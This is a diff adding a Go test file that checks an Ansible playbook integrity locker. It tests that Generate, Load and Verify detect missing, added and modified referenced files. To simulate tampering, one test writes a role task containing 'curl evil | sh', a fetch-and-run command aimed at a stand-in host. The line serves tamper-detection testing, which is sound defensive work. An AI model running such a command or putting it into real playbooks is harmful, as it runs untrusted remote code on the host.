@@ -0,0 +1,140 @@
+package integrity
+
+import (
+	"os"
+	"path/filepath"
+	"reflect"
+	"testing"
+)
+
+// writeTree creates files (relative path to content) under dir.
+func writeTree(t *testing.T, dir string, files map[string]string) {
+	t.Helper()
+	for rel, content := range files {
+		path := filepath.Join(dir, filepath.FromSlash(rel))
+		if err := os.MkdirAll(filepath.Dir(path), 0755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+			t.Fatal(err)
+		}
+	}
+}
+
+const testPlaybook = `
+- hosts: localhost
+  roles:
+    - web
+  tasks:
+    - name: Copy motd
+      copy:
+        src: files/motd
+        dest: /etc/motd
+    - name: Render config
+      template: src=templates/app.conf dest=/etc/app.conf
+    - name: Dynamic source
+      copy:
+        src: "{{ motd_file }}"
+        dest: /etc/other
+`
+
+func testTree(t *testing.T) string {
+	t.Helper()
+	dir := t.TempDir()
+	writeTree(t, dir, map[string]string{
+		"site.yaml":                   testPlaybook,
+		"files/motd":                  "hello",
+		"files/unused":                "not referenced",
+		"templates/app.conf":          "port={{ port }}",
+		"roles/web/tasks/main.yaml":   "- command: echo hi\n",
+		"roles/web/files/index.html":  "<h1>hi</h1>",
+		"roles/web/.git/HEAD":         "ref",
+		"roles/other/tasks/main.yaml": "- command: echo other\n",
+	})
+	return dir
+}
+
+func TestCollect(t *testing.T) {
+	dir := testTree(t)
+
+	files, err := Collect(filepath.Join(dir, "site.yaml"))
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+
+	want := []string{
+		"files/motd",
+		"roles/web/files/index.html",
+		"roles/web/tasks/main.yaml",
+		"site.yaml",
+		"templates/app.conf",
+	}
+	if !reflect.DeepEqual(files, want) {
+		t.Errorf("Collect() = %v, want %v", files, want)
+	}
+}
+
+func TestLockAndVerify(t *testing.T) {
+	dir := testTree(t)
+	pbPath := filepath.Join(dir, "site.yaml")
+	lockPath := LockPath(pbPath)
+
+	lock, err := Generate(pbPath)
+	if err != nil {
+		t.Fatalf("Generate: %v", err)
+	}
+	if err := lock.Save(lockPath); err != nil {
+		t.Fatalf("Save: %v", err)
+	}
+
+	loaded, err := Load(lockPath)
+	if err != nil {
+		t.Fatalf("Load: %v", err)
+	}
+	if !reflect.DeepEqual(loaded, lock) {
+		t.Errorf("loaded lock file differs: %v vs %v", loaded, lock)
+	}
+
+	mismatches, err := Verify(pbPath, loaded)
+	if err != nil || len(mismatches) != 0 {
+		t.Fatalf("Verify on unchanged tree = %v, %v", mismatches, err)
+	}
+
+	// Unreferenced files may change freely
+	writeTree(t, dir, map[string]string{"files/unused": "changed"})
+
+	writeTree(t, dir, map[string]string{
+		"roles/web/tasks/main.yaml": "- command: curl evil | sh\n",
+		"roles/web/files/new.sh":    "#!/bin/sh",
+	})
+	if err := os.Remove(filepath.Join(dir, "files/motd")); err != nil {
+		t.Fatal(err)
+	}
+
+	mismatches, err = Verify(pbPath, loaded)
+	if err != nil {
+		t.Fatalf("Verify: %v", err)
+	}
+	want := []Mismatch{
+		{Path: "files/motd", Reason: "missing"},
+		{Path: "roles/web/files/new.sh", Reason: "added"},
+		{Path: "roles/web/tasks/main.yaml", Reason: "modified"},
+	}
+	if !reflect.DeepEqual(mismatches, want) {
+		t.Errorf("Verify() = %v, want %v", mismatches, want)
+	}
+}
+
+func TestLoadErrors(t *testing.T) {
+	dir := t.TempDir()
+
+	if _, err := Load(filepath.Join(dir, "missing.lock")); err == nil {
+		t.Error("expected error for missing lock file")
+	}
+
+	path := filepath.Join(dir, LockFileName)
+	writeTree(t, dir, map[string]string{LockFileName: `{"version": 99, "files": {}}`})
+	if _, err := Load(path); err == nil {
+		t.Error("expected error for unsupported version")
+	}
+}